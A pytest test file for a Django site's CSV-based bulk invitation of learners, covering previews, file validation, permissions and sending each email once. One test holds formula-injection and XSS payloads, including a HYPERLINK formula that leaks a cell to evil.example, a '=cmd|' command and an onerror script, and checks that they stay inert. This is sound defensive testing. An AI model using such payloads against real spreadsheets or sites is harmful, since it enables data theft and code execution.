"""Inviting learners from a spreadsheet (issue 13, item 3): a preview with a plain reason
for every bad row, nothing imported until the author says so, and a Celery task that
sends each invitation once."""

import csv
import datetime
import html
import io
import re
import smtplib

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.mail.backends.locmem import EmailBackend as LocmemBackend
from django.urls import reverse
from django.utils import timezone

from learning_site.bulk_invitations import (
    FileProblem,
    check_rows,
    read_csv,
    run_import,
    start_import,
)
from learning_site.models import (
    AuditEvent,
    Invitation,
    InvitationImport,
    PartnershipAgency,
    User,
)
from learning_site.models.invitation_imports import ImportStatus, RowStatus
from learning_site.roles import Role
from tests.factories import make_user

pytestmark = pytest.mark.django_db

HEADER = ("Email address", "Full name", "Agency", "Job role")
SAVE_AS = "Save the file as CSV UTF-8"


@pytest.fixture
def partnership_admin(partnership):
    return make_user(Role.PARTNERSHIP_ADMIN, partnership, full_name="Pat Partnership-Admin")


@pytest.fixture
def agencies(partnership):
    for order, (kind, name) in enumerate(
        [
            ("childrens_social_care", "Northshire Children’s Services"),
            ("health", "Northshire Community Health"),
            ("police", ""),
            ("education", "Northshire Schools"),
        ]
    ):
        PartnershipAgency.objects.create(
            partnership=partnership, kind=kind, name=name, sort_order=order
        )


def csv_bytes(rows, header=HEADER, delimiter=",", encoding="utf-8", bom=False) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    data = out.getvalue().encode(encoding)
    return (b"\xef\xbb\xbf" + data) if bom else data


def people(count, start=1, domain="northshire.gov.uk"):
    agencies = ["Children's social care", "health", "POLICE", "Northshire Schools", ""]
    return [
        (f"person{n}@{domain}", f"Person {n}", agencies[n % 5], "Social worker")
        for n in range(start, start + count)
    ]


def upload(client, data: bytes, partnership=None, name="learners.csv", **extra):
    form = {"file": SimpleUploadedFile(name, data, content_type="text/csv"), **extra}
    if partnership is not None:
        form["partnership"] = partnership.pk
    return client.post(reverse("invitation_import"), form)


def detail_url(record) -> str:
    return reverse("invitation_import_detail", args=[record.pk])


def start(client, record, action, capture):
    with capture(execute=True):
        return client.post(detail_url(record), {"action": action})


def page(response) -> str:
    return html.unescape(response.content.decode())


# --- The journey ----------------------------------------------------------------------
def three_bad_rows(rows):
    """Row 11 a bad address, row 51 an unknown agency, row 101 a repeat of row 2."""
    rows = list(rows)
    rows[9] = ("sam.jones@", "Sam Jones", "Health", "Health visitor")
    rows[49] = ("kai.lee@northshire.gov.uk", "Kai Lee", "Fire and rescue", "Firefighter")
    rows[99] = (rows[0][0].upper(), "Repeat Person", "Health", "Nurse")
    return rows


def test_200_learners_with_three_bad_rows_shown_fixed_and_imported(
    client, partnership_admin, partnership, agencies, django_capture_on_commit_callbacks
):
    client.force_login(partnership_admin)
    good = people(200)
    response = upload(client, csv_bytes(three_bad_rows(good)), partnership)
    record = InvitationImport.objects.get()
    assert response.url == detail_url(record)
    assert (record.rows_total, record.rows_with_errors, record.rows_to_invite) == (200, 3, 197)

    preview = client.get(response.url)
    text = page(preview)
    assert "3 rows have a problem" in text
    assert "Row 11: ‘sam.jones@’ is not an email address in the correct format" in text
    assert "Row 51: ‘Fire and rescue’ is not one of this partnership’s agencies" in text
    assert "Northshire Children’s Services, Northshire Community Health, Police or" in text
    assert "Row 101: The same email address is on row 2. Remove one of the rows." in text
    assert 'href="#row-11"' in text and 'id="row-11"' in text
    assert "Import the 197 good rows" in text and "Upload a corrected file" in text
    assert "Import all" not in text
    # Nothing imported, nobody emailed.
    assert not Invitation.objects.exists() and len(mail.outbox) == 0

    # The whole file cannot be imported while rows have problems.
    response = start(client, record, "import_all", django_capture_on_commit_callbacks)
    assert "so the whole file cannot be imported" in page(client.get(response.url))
    record.refresh_from_db()
    assert record.status == ImportStatus.CHECKED
    assert not Invitation.objects.exists() and len(mail.outbox) == 0

    # The author corrects the three rows and uploads the file again from the preview.
    corrected = list(good)
    corrected[99] = ("person100.new@northshire.gov.uk", "Repeat Person", "Health", "Nurse")
    response = upload(client, csv_bytes(corrected), partnership, replaces=str(record.pk))
    assert not InvitationImport.objects.filter(pk=record.pk).exists()  # the old check goes
    record = InvitationImport.objects.get()
    text = page(client.get(response.url))
    assert "Import all 200 rows" in text and "This sends 200 invitations" in text
    assert "has a problem" not in text and "have a problem" not in text

    response = start(client, record, "import_all", django_capture_on_commit_callbacks)
    assert response.url == detail_url(record)
    record.refresh_from_db()
    assert record.status == ImportStatus.DONE and record.import_all
    assert record.invited == 200 and record.progress == 100
    assert Invitation.objects.filter(partnership=partnership, role="Learner").count() == 200
    assert len(mail.outbox) == 200
    assert sorted(m.to[0] for m in mail.outbox) == sorted(e.lower() for e, *_ in corrected)
    done = page(client.get(detail_url(record)))
    assert "200 invitations sent." in done
    invitation = Invitation.objects.get(email="person7@northshire.gov.uk")
    assert (invitation.full_name, invitation.agency, invitation.job_role) == (
        "Person 7",
        "police",
        "Social worker",
    )
    assert invitation.invited_by == partnership_admin and invitation.sent_at is not None
    assert AuditEvent.objects.filter(action=AuditEvent.Action.INVITATION_SENT).count() == 200
    # The emailed link works like any invitation's.
    message = next(m for m in mail.outbox if m.to == ["person7@northshire.gov.uk"])
    assert "Hello Person 7" in message.body
    link = re.search(r"http://testserver(/accounts/invitation/[^\s]+/)", message.body).group(1)
    client.logout()
    assert "person7@northshire.gov.uk" in page(client.get(link))


def test_import_the_good_rows_then_the_corrected_ones_without_emailing_anyone_twice(
    client, partnership_admin, partnership, agencies, django_capture_on_commit_callbacks
):
    client.force_login(partnership_admin)
    good = people(200)
    upload(client, csv_bytes(three_bad_rows(good)), partnership)
    record = InvitationImport.objects.get()
    start(client, record, "import_good", django_capture_on_commit_callbacks)
    record.refresh_from_db()
    assert record.status == ImportStatus.DONE and not record.import_all
    assert Invitation.objects.count() == 197 and len(mail.outbox) == 197
    assert record.rows.filter(status=RowStatus.ERROR).count() == 3
    assert not Invitation.objects.filter(email="kai.lee@northshire.gov.uk").exists()

    # The whole corrected file again: those already invited are said, not sent again.
    corrected = list(good)
    corrected[99] = ("person100.new@northshire.gov.uk", "Repeat Person", "Health", "Nurse")
    upload(client, csv_bytes(corrected), partnership)
    second = InvitationImport.objects.exclude(pk=record.pk).get()
    assert (second.rows_to_invite, second.rows_skipped, second.rows_with_errors) == (3, 197, 0)
    text = page(client.get(detail_url(second)))
    assert "That invitation is still open, so it is not sent again." in text
    start(client, second, "import_all", django_capture_on_commit_callbacks)
    assert Invitation.objects.count() == 200
    assert len(mail.outbox) == 200
    assert len({m.to[0] for m in mail.outbox}) == 200


# --- Files that cannot be used ----------------------------------------------------------
def fifty_thousand_rows() -> bytes:
    lines = ["Email address"] + [f"p{n}@x.example" for n in range(50_000)]
    return "\n".join(lines).encode()


@pytest.mark.parametrize(
    "data, message",
    [
        (
            csv_bytes([("jose@northshire.gov.uk", "José Núñez", "", "")], encoding="cp1252"),
            "is not saved as UTF-8",
        ),
        (
            csv_bytes([("a@northshire.gov.uk", "Łucja", "", "")], encoding="utf-16"),
            "(UTF-16)",
        ),
        (b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 50, "a spreadsheet workbook, not a CSV file"),
        (b"", "The selected file is empty."),
        (b"\r\n \r\n", "The selected file is empty."),
        (csv_bytes([("Sam", "Health")], header=("Name", "Agency")), "must be ‘Email address’"),
        (b"Email address,Full name\r\n", "The file has no people in it"),
        (fifty_thousand_rows(), "The file has 50,000 rows of people. You can invite up to 10,000"),
        (b'Email address,Full name\n"a@x.example,"Unclosed\x00', "not a CSV file saved as UTF-8"),
    ],
    ids=["cp1252", "utf-16", "xlsx", "empty", "blank", "no-email-column", "header-only",
         "50000-rows", "nul"],
)  # fmt: skip
def test_a_file_that_cannot_be_used_is_refused_with_a_reason_and_changes_nothing(
    client, partnership_admin, partnership, data, message
):
    client.force_login(partnership_admin)
    response = upload(client, data, partnership)
    assert response.status_code == 200
    text = page(response)
    assert "There is a problem" in text
    assert message in text
    if "UTF" in message or "workbook" in message:
        assert SAVE_AS in text
    assert not InvitationImport.objects.exists()
    assert not Invitation.objects.exists() and len(mail.outbox) == 0


def test_a_file_over_the_size_limit_is_refused(client, partnership_admin, partnership, settings):
    settings.INVITATION_IMPORT_MAX_BYTES = 1024
    client.force_login(partnership_admin)
    response = upload(client, csv_bytes(people(100)), partnership)
    assert "The selected file must be smaller than 1 KB" in page(response)
    assert not InvitationImport.objects.exists()


def test_the_row_limit_is_a_setting(client, partnership_admin, partnership, settings):
    settings.INVITATION_IMPORT_MAX_ROWS = 10
    client.force_login(partnership_admin)
    text = page(upload(client, csv_bytes(people(11)), partnership))
    assert "The file has 11 rows of people. You can invite up to 10 at a time" in text
    assert not InvitationImport.objects.exists()
    upload(client, csv_bytes(people(10)), partnership)
    assert InvitationImport.objects.get().rows_total == 10


def test_no_file_is_a_clear_error(client, partnership_admin, partnership):
    client.force_login(partnership_admin)
    response = client.post(reverse("invitation_import"), {"partnership": partnership.pk})
    assert "Select a CSV file." in page(response)


# --- Files read faithfully --------------------------------------------------------------
def test_bom_and_semicolons_are_read_and_header_names_matched_flexibly(partnership, agencies):
    data = csv_bytes(
        [
            ("Anna.Kowalska@Northshire.gov.uk", "Anna Kowalska", "Health", "Nurse, school"),
            ("ben@northshire.gov.uk", "Ben Ode", "childrens_social_care", "Social worker"),
        ],
        header=("E-mail address", "NAME", "agency", "Job title", "Phone"),
        delimiter=";",
        bom=True,
    )
    parsed = read_csv(data)
    assert parsed.delimiter == ";"
    assert [(r.number, r.email, r.full_name, r.agency, r.job_role) for r in parsed.rows] == [
        (2, "anna.kowalska@northshire.gov.uk", "Anna Kowalska", "Health", "Nurse, school"),
        (3, "ben@northshire.gov.uk", "Ben Ode", "childrens_social_care", "Social worker"),
    ]
    assert parsed.notes == [
        "The columns in this file are separated by semicolons.",
        "These columns were not used: ‘Phone’.",
    ]
    checked = check_rows(partnership, parsed.rows)
    assert [(c.status, c.agency) for c in checked] == [
        (RowStatus.READY, "health"),
        (RowStatus.READY, "childrens_social_care"),
    ]


def test_excel_separator_line_blank_rows_and_old_mac_line_endings(partnership):
    data = b"sep=;\r\nEmail;Full name\r\n\r\na@x.example;A\r\n;;\r\nb@x.example;B"
    parsed = read_csv(data)
    assert [(r.number, r.email) for r in parsed.rows] == [(3, "a@x.example"), (5, "b@x.example")]
    mac = read_csv(b"Email address,Name\ra@x.example,A\rb@x.example,B\r")
    assert [r.email for r in mac.rows] == ["a@x.example", "b@x.example"]


def test_a_quotation_mark_left_open_is_refused_rather_than_swallowing_the_rows_after_it():
    data = b'Email address,Full name,Notes\na@x.example,"Ann\nb@x.example,Bob,x\nc@x.example,C,y\n'
    with pytest.raises(FileProblem, match="Row 2 has a cell that runs over more than one line"):
        read_csv(data)
    # A note over several lines in a column that is not used is fine.
    parsed = read_csv(b'Email address,Notes\na@x.example,"one\ntwo"\nb@x.example,x\n')
    assert [(r.number, r.email) for r in parsed.rows] == [(2, "a@x.example"), (3, "b@x.example")]


NAMES = [
    "Łucja Wiśniewska-Nguyễn",
    "ليلى عبد الله",
    "Zoë 😀 O’Brien",
    "Ō" * 150,
]


def test_names_in_any_alphabet_are_kept_intact(
    client, partnership_admin, partnership, django_capture_on_commit_callbacks
):
    rows = [(f"n{i}@northshire.gov.uk", name, "", "") for i, name in enumerate(NAMES)]
    rows.append(("long@northshire.gov.uk", "Ō" * 151, "", ""))
    client.force_login(partnership_admin)
    upload(client, csv_bytes(rows), partnership)
    record = InvitationImport.objects.get()
    text = page(client.get(detail_url(record)))
    for name in NAMES:
        assert name in text
    assert "The name is 151 characters long. It must be 150 characters or fewer." in text
    assert '<td dir="auto">ليلى عبد الله</td>' in text
    start(client, record, "import_good", django_capture_on_commit_callbacks)
    for i, name in enumerate(NAMES):
        assert Invitation.objects.get(email=f"n{i}@northshire.gov.uk").full_name == name
    assert f"Hello {NAMES[0]}" in mail.outbox[0].body


def test_formula_looking_cells_are_plain_text_shown_escaped_and_never_run(
    client, partnership_admin, partnership, django_capture_on_commit_callbacks
):
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Click for your certificate")'
    rows = [
        ("f1@northshire.gov.uk", hyperlink, "", "=1+1"),
        ("f2@northshire.gov.uk", "+44 7700 900123", "", "@SUM(A1:A9)"),
        ("f3@northshire.gov.uk", "-2+3", "", "Nurse"),
        ("f4@northshire.gov.uk", "\tTabbed Name", "", "\rCarer"),
        ("f5@northshire.gov.uk", '<img src=x onerror="alert(1)">Bob <b>Bold</b>', "", ""),
        ("=cmd|'/c calc'!A1", "Calc", "", ""),
    ]
    client.force_login(partnership_admin)
    upload(client, csv_bytes(rows), partnership)
    record = InvitationImport.objects.get()
    raw = client.get(detail_url(record)).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in raw
    assert "<img" not in raw and "onerror" not in raw and "<b>Bold" not in raw
    text = html.unescape(raw)
    assert "The name starts with ‘=’, like a spreadsheet formula. It is kept as plain text." in text
    assert "The job role starts with ‘@’, like a spreadsheet formula." in text
    assert "‘=cmd|'/c calc'!a1’ is not an email address in the correct format" in text
    start(client, record, "import_good", django_capture_on_commit_callbacks)
    stored = {i.email: (i.full_name, i.job_role) for i in Invitation.objects.all()}
    assert stored == {
        "f1@northshire.gov.uk": (hyperlink, "=1+1"),
        "f2@northshire.gov.uk": ("+44 7700 900123", "@SUM(A1:A9)"),
        "f3@northshire.gov.uk": ("-2+3", "Nurse"),
        "f4@northshire.gov.uk": ("Tabbed Name", "Carer"),
        "f5@northshire.gov.uk": ("Bob Bold", ""),
    }


# --- Checking rows ----------------------------------------------------------------------
def test_agency_by_code_kind_or_local_name_in_any_case(partnership, agencies):
    rows = [
        ("a1@x.example", "", "POLICE", ""),
        ("a2@x.example", "", "northshire children's services", ""),
        ("a3@x.example", "", "Children’s Social Care", ""),
        ("a4@x.example", "", "early_years", ""),  # a kind this partnership has not got
        ("a5@x.example", "", "  health ", ""),
        ("a6@x.example", "", "", ""),
    ]
    checked = check_rows(partnership, read_csv(csv_bytes(rows)).rows)
    assert [c.agency for c in checked] == [
        "police",
        "childrens_social_care",
        "childrens_social_care",
        "",
        "health",
        "",
    ]
    assert checked[3].status == RowStatus.ERROR
    assert "‘early_years’ is not one of this partnership’s agencies" in checked[3].message
    assert checked[5].status == RowStatus.READY  # agency may be left empty


def test_a_partnership_without_its_own_agencies_takes_every_kind(partnership):
    rows = [("a@x.example", "", "Drug and alcohol services", ""), ("b@x.example", "", "Fire", "")]
    checked = check_rows(partnership, read_csv(csv_bytes(rows)).rows)
    assert checked[0].agency == "drug_and_alcohol"
    assert checked[1].status == RowStatus.ERROR


def test_members_invitations_and_other_partnerships(partnership, other_partnership, learner):
    other_person = make_user(Role.LEARNER, other_partnership, email="taken@riverside.gov.uk")
    no_partnership = make_user(Role.ADMINISTRATOR, None, email="floating@northshire.gov.uk")
    Invitation.objects.create(partnership=partnership, email="waiting@northshire.gov.uk")
    Invitation.objects.create(
        partnership=partnership,
        email="lapsed@northshire.gov.uk",
        created_at=timezone.now() - datetime.timedelta(days=30),
        expires_at=timezone.now() - datetime.timedelta(days=16),
    )
    rows = [
        (learner.email.upper(), "", "", ""),
        (other_person.email, "", "", ""),
        ("waiting@northshire.gov.uk", "", "", ""),
        ("lapsed@northshire.gov.uk", "", "", ""),
        (no_partnership.email, "", "", ""),
        ("", "No Address", "", ""),
    ]
    checked = check_rows(partnership, read_csv(csv_bytes(rows)).rows)
    by_row = {c.number: c for c in checked}
    assert by_row[2].status == RowStatus.SKIPPED
    assert "Already has an account in this partnership" in by_row[2].message
    assert by_row[3].status == RowStatus.ERROR
    assert "already belongs to another partnership" in by_row[3].message
    assert by_row[4].status == RowStatus.SKIPPED and "Already invited on" in by_row[4].message
    assert by_row[5].status == RowStatus.READY
    assert "that invitation expired. A new one will be sent." in by_row[5].message
    assert by_row[6].status == RowStatus.READY
    assert by_row[7].status == RowStatus.ERROR and by_row[7].message == "There is no email address."


def test_checking_5000_rows_takes_as_many_queries_as_checking_50(
    partnership, agencies, django_assert_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    make_user(Role.LEARNER, partnership, email="person3@northshire.gov.uk")
    Invitation.objects.create(partnership=partnership, email="person4@northshire.gov.uk")
    small = read_csv(csv_bytes(people(50))).rows
    large = read_csv(csv_bytes(people(5000))).rows
    with CaptureQueriesContext(connection) as for_small:
        check_rows(partnership, small)
    with django_assert_num_queries(len(for_small)):
        checked = check_rows(partnership, large)
    assert len(for_small) <= 3
    assert sum(c.status == RowStatus.SKIPPED for c in checked) == 2


def test_uploading_5000_rows_runs_as_many_queries_as_50_besides_inserting_the_rows(
    client, partnership_admin, partnership, agencies
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(partnership_admin)
    # The first request of a session reads the person's roles and permissions into the
    # shared cache (learning_site.access_cache); both measured uploads come after it.
    upload(client, csv_bytes(people(1, start=1)), partnership)
    counts = {}
    for size in (50, 5000):
        data = csv_bytes(people(size, start=size))
        with CaptureQueriesContext(connection) as queries:
            response = upload(client, data, partnership)
        assert response.status_code == 302
        inserts = [q for q in queries if q["sql"].startswith("INSERT")]
        # The rows go in large batches (SQLite takes 999 values per statement: 76 rows).
        assert len(inserts) <= 2 + size // 70
        counts[size] = len(queries) - len(inserts)
    assert counts[5000] == counts[50] <= 25
    assert InvitationImport.objects.filter(rows_to_invite=5000).exists()


def test_sending_runs_a_bounded_number_of_queries_per_batch(
    partnership, agencies, partnership_admin, django_assert_max_num_queries, settings
):
    from learning_site.bulk_invitations import create_import

    record = create_import(partnership, read_csv(csv_bytes(people(1000))), by=partnership_admin)
    InvitationImport.objects.filter(pk=record.pk).update(status=ImportStatus.QUEUED)
    with django_assert_max_num_queries(10 * 20 + 10):
        assert run_import(str(record.pk), batch_size=100) == "done"
    assert len(mail.outbox) == 1000


# --- Who may do what --------------------------------------------------------------------
def test_a_partnership_administrator_cannot_import_into_another_partnership(
    client, partnership_admin, partnership, other_partnership
):
    client.force_login(partnership_admin)
    form = page(client.get(reverse("invitation_import")))
    assert other_partnership.name not in form
    assert f'name="partnership" value="{partnership.pk}"' in form
    response = upload(client, csv_bytes(people(3)), other_partnership)
    assert response.status_code == 200
    assert "Choose a partnership you can invite people to." in page(response)
    assert not InvitationImport.objects.exists() and not Invitation.objects.exists()


def test_a_partnership_administrator_cannot_see_or_start_another_partnerships_import(
    client, partnership_admin, other_partnership, administrator, django_capture_on_commit_callbacks
):
    from learning_site.bulk_invitations import create_import

    record = create_import(
        other_partnership, read_csv(csv_bytes(people(3))), by=administrator, filename="r.csv"
    )
    client.force_login(partnership_admin)
    assert client.get(detail_url(record)).status_code == 404
    response = start(client, record, "import_all", django_capture_on_commit_callbacks)
    assert response.status_code == 404
    record.refresh_from_db()
    assert record.status == ImportStatus.CHECKED and len(mail.outbox) == 0


def test_a_platform_administrator_names_the_partnership(
    client, administrator, partnership, other_partnership
):
    client.force_login(administrator)
    form = page(client.get(reverse("invitation_import")))
    assert "Choose a partnership" in form and other_partnership.name in form
    response = upload(client, csv_bytes(people(3)))
    assert "Choose the partnership to invite these people to." in page(response)
    assert not InvitationImport.objects.exists()
    upload(client, csv_bytes(people(3, domain="riverside.gov.uk")), other_partnership)
    assert InvitationImport.objects.get().partnership == other_partnership


def test_people_who_may_not_invite_are_sent_away(client, trainer, learner):
    for person in (trainer, learner):
        client.force_login(person)
        assert client.get(reverse("invitation_import")).status_code == 302
        response = upload(client, csv_bytes(people(3)), person.partnership)
        assert response.status_code == 302
    assert not InvitationImport.objects.exists()


def test_the_invitations_listing_links_to_the_spreadsheet_import(client, partnership_admin):
    client.force_login(partnership_admin)
    listing = client.get(reverse("invitation:index")).content.decode()
    assert f'href="{reverse("invitation_import")}"' in listing
    assert "Invite from a spreadsheet" in listing


# --- Sending each invitation once -------------------------------------------------------
def test_a_double_submit_or_a_second_run_sends_nothing_twice(
    client, partnership_admin, partnership, agencies, django_capture_on_commit_callbacks
):
    client.force_login(partnership_admin)
    upload(client, csv_bytes(people(30)), partnership)
    record = InvitationImport.objects.get()
    start(client, record, "import_all", django_capture_on_commit_callbacks)
    start(client, record, "import_all", django_capture_on_commit_callbacks)
    start(client, record, "import_good", django_capture_on_commit_callbacks)
    assert len(mail.outbox) == 30 and Invitation.objects.count() == 30
    # The task itself, run again (a redelivered message), and on a stuck 'running' import.
    assert run_import(str(record.pk)) == "skipped"
    InvitationImport.objects.filter(pk=record.pk).update(status=ImportStatus.RUNNING)
    assert run_import(str(record.pk)) == "done"
    assert len(mail.outbox) == 30 and Invitation.objects.count() == 30
    assert AuditEvent.objects.filter(action=AuditEvent.Action.INVITATION_SENT).count() == 30


def test_a_row_claimed_by_a_live_run_is_left_alone_and_a_stale_one_is_finished(
    partnership, agencies, partnership_admin
):
    from learning_site.bulk_invitations import STALE_CLAIM, create_import

    record = create_import(partnership, read_csv(csv_bytes(people(4))), by=partnership_admin)
    InvitationImport.objects.filter(pk=record.pk).update(status=ImportStatus.RUNNING)
    now = timezone.now()
    rows = list(record.rows.order_by("number"))
    record.rows.filter(pk=rows[0].pk).update(
        status=RowStatus.SENDING, claim="other-run", claimed_at=now
    )
    record.rows.filter(pk=rows[1].pk).update(
        status=RowStatus.SENDING, claim="dead-run", claimed_at=now - STALE_CLAIM * 2
    )
    assert run_import(str(record.pk)) == "partly"
    assert sorted(m.to[0] for m in mail.outbox) == sorted(r.email for r in rows[1:])
    record.refresh_from_db()
    assert record.status == ImportStatus.RUNNING  # the live run finishes it


class RefusingBackend(LocmemBackend):
    """A mail server that is down."""

    def send_messages(self, messages):
        raise smtplib.SMTPServerDisconnected("Connection unexpectedly closed")


class RefusingOneBackend(LocmemBackend):
    """A mail server that refuses one address."""

    def send_messages(self, messages):
        if any(m.to == ["person2@northshire.gov.uk"] for m in messages):
            raise smtplib.SMTPRecipientsRefused({"person2@northshire.gov.uk": (550, b"No")})
        return super().send_messages(messages)


def test_when_the_mail_server_is_down_the_rest_are_sent_once_on_trying_again(
    client, partnership_admin, partnership, agencies, settings, django_capture_on_commit_callbacks
):
    client.force_login(partnership_admin)
    upload(client, csv_bytes(people(12)), partnership)
    record = InvitationImport.objects.get()
    settings.EMAIL_BACKEND = f"{__name__}.RefusingBackend"
    start(client, record, "import_all", django_capture_on_commit_callbacks)
    record.refresh_from_db()
    assert record.status == ImportStatus.FAILED and record.invited == 0
    text = page(client.get(detail_url(record)))
    assert "The email server is not accepting emails" in text
    assert "Try again to send the rest" in text
    assert len(mail.outbox) == 0
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.INVITATION_SENT).exists()

    settings.EMAIL_BACKEND = f"{__name__}.RefusingOneBackend"
    start(client, record, "retry", django_capture_on_commit_callbacks)
    record.refresh_from_db()
    assert record.status == ImportStatus.DONE
    assert (record.invited, record.not_sent) == (11, 1)
    assert len(mail.outbox) == 11
    text = page(client.get(detail_url(record) + "?show=problems"))
    assert "The email server refused this address. Check it" in text
    assert "person2@northshire.gov.uk" in text and "person3@northshire.gov.uk" not in text

    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    start(client, record, "retry", django_capture_on_commit_callbacks)
    record.refresh_from_db()
    assert (record.status, record.invited, record.not_sent) == (ImportStatus.DONE, 12, 0)
    assert len(mail.outbox) == 12 and len({m.to[0] for m in mail.outbox}) == 12
    assert Invitation.objects.count() == 12


def test_things_that_changed_since_the_preview_are_checked_again(
    partnership, agencies, other_partnership, partnership_admin
):
    from learning_site.bulk_invitations import create_import

    record = create_import(partnership, read_csv(csv_bytes(people(3))), by=partnership_admin)
    make_user(Role.LEARNER, other_partnership, email="person1@northshire.gov.uk")
    Invitation.objects.create(partnership=partnership, email="person2@northshire.gov.uk")
    assert start_import(record, import_all=True)
    assert run_import(str(record.pk)) == "done"
    assert [m.to for m in mail.outbox] == [["person3@northshire.gov.uk"]]
    messages = dict(record.rows.values_list("email", "message"))
    assert "joined another partnership" in messages["person1@northshire.gov.uk"]
    assert "someone else invited this person" in messages["person2@northshire.gov.uk"]
    assert not User.objects.filter(email="person3@northshire.gov.uk").exists()


def test_progress_page_while_sending_refreshes_without_javascript(
    client, partnership_admin, partnership, agencies
):
    from learning_site.bulk_invitations import create_import

    record = create_import(partnership, read_csv(csv_bytes(people(40))), by=partnership_admin)
    InvitationImport.objects.filter(pk=record.pk).update(status=ImportStatus.RUNNING, invited=10)
    client.force_login(partnership_admin)
    raw = client.get(detail_url(record)).content.decode()
    assert "10 of 40 invitations sent." in raw
    assert re.search(r'<progress max="100" value="25" aria-labelledby="progress-label">', raw)
    assert f'href="{detail_url(record)}">Check progress</a>' in raw
    assert "<script" not in raw.split("nice-padding", 1)[-1].split("</main>")[0]


def test_read_csv_refuses_rather_than_guesses():
    with pytest.raises(FileProblem, match="must be ‘Email address’"):
        read_csv(b"Who,What\nx,y\n")


def test_old_imports_are_deleted_and_their_invitations_kept(partnership, partnership_admin):
    from learning_site.bulk_invitations import create_import
    from learning_site.tasks import delete_old_invitation_imports

    old = create_import(partnership, read_csv(csv_bytes(people(2))), by=partnership_admin)
    InvitationImport.objects.filter(pk=old.pk).update(status=ImportStatus.QUEUED)
    run_import(str(old.pk))
    sending = create_import(partnership, read_csv(csv_bytes(people(2, 10))), by=partnership_admin)
    recent = create_import(partnership, read_csv(csv_bytes(people(2, 20))), by=partnership_admin)
    long_ago = timezone.now() - datetime.timedelta(days=31)
    InvitationImport.objects.filter(pk=old.pk).update(created_at=long_ago)
    InvitationImport.objects.filter(pk=sending.pk).update(
        created_at=long_ago, status=ImportStatus.RUNNING
    )
    assert delete_old_invitation_imports() == 1
    assert set(InvitationImport.objects.values_list("pk", flat=True)) == {sending.pk, recent.pk}
    assert Invitation.objects.count() == 2


def test_an_import_whose_worker_vanished_can_be_tried_again(
    client, partnership_admin, partnership, agencies, django_capture_on_commit_callbacks
):
    from learning_site.bulk_invitations import create_import

    record = create_import(partnership, read_csv(csv_bytes(people(5))), by=partnership_admin)
    first = record.rows.order_by("number").first()
    long_ago = timezone.now() - datetime.timedelta(minutes=20)
    record.rows.filter(pk=first.pk).update(
        status=RowStatus.SENDING, claim="dead-run", claimed_at=long_ago
    )
    InvitationImport.objects.filter(pk=record.pk).update(
        status=ImportStatus.RUNNING, updated_at=timezone.now()
    )
    client.force_login(partnership_admin)
    text = page(client.get(detail_url(record)))
    assert "Nothing has happened" not in text and "Try again" not in text
    start(client, record, "retry", django_capture_on_commit_callbacks)
    assert len(mail.outbox) == 0  # still moving: not to be started twice

    InvitationImport.objects.filter(pk=record.pk).update(updated_at=long_ago)
    text = page(client.get(detail_url(record)))
    assert "Nothing has happened for 15 minutes" in text
    start(client, record, "retry", django_capture_on_commit_callbacks)
    record.refresh_from_db()
    assert (record.status, record.invited) == (ImportStatus.DONE, 5)
    assert len(mail.outbox) == 5
